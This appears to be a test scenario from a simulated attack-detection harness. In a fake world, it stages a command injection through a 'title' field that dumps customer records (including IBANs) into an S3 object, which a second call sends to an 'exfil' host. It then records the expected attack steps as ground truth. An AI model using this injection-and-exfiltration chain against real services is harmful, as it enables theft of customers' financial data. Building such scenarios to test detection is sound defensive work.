/** Staging: one function is made to put all customers into the bucket, another one hands them out. */
import { createHash } from 'node:crypto';
import { customers, scanCustomers, signedCall, Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const s3Staging: Scenario = {
  name: 's3-staging',
  what: 'data put into a bucket by one function is taken out and sent away by another; a dump turns up somewhere',
  starts: 'hash',
  hosts: ['exfil'],
  run,
};

async function run(world: World): Promise<Outcome> {
  const { random, bucket } = world;
  const exfil = world.host('exfil');
  const out = `/${random.word(8)}`;
  const file = `/tmp/.${random.word(6)}`;
  const key = `converted/${random.word(12)}.txt`;
  const put = signedCall('s3', `-T ${file} $AWS_ENDPOINT_URL/${bucket}/${key}`);
  const stager = world.agent();
  // Signed with a name, so that this dump is no other's.
  const steal = `${scanCustomers(file)};echo ${random.word(12)} >>${file}`;
  const body = { title: `${random.word(6)}";${steal};${put};: "`, text: random.word(20) };
  const staged = await world.call('POST', '/convert', { body, agent: stager });
  await world.turn();

  const agent = world.agent();
  const taken = await world.call('POST', '/deliver', { body: { key, to: `${exfil.url}${out}` }, agent });
  const dump = world.visits('exfil').find(({ path }) => path === out)?.body;
  if (dump?.includes('iban') !== true) throw new Error(`no customers arrived: ${staged.status}, ${taken.status}`);

  const truth = new Truth()
    .asks('the staging', 'convert', staged, stager)
    .converts(staged)
    .programs('convert', staged, 'sh -c printf', 'curl -s --aws-sigv4 aws:amz:us-east-1:dynamodb')
    .programs('convert', staged, 'curl -s --aws-sigv4 aws:amz:us-east-1:s3')
    .call('convert', staged, 'dynamodb:Scan')
    .attack('the customers', customers)
    .file('convert', file)
    .call('convert', staged, 's3:PutObject')
    .attack('the object', { kind: 'resource', label: `${key}@` })
    .context('the object, whatever its version', { kind: 'resource', label: `${key}$` })
    .asks('the delivery', 'deliver', taken, agent)
    .call('deliver', taken, 's3:GetObject')
    .call('deliver', taken, `POST https://${exfil.host}${out}`);
  return {
    fact: { what: 'hash', q: createHash('sha256').update(dump).digest('hex') },
    entries: [staged.requestId, taken.requestId],
    steps: truth.steps,
  };
}
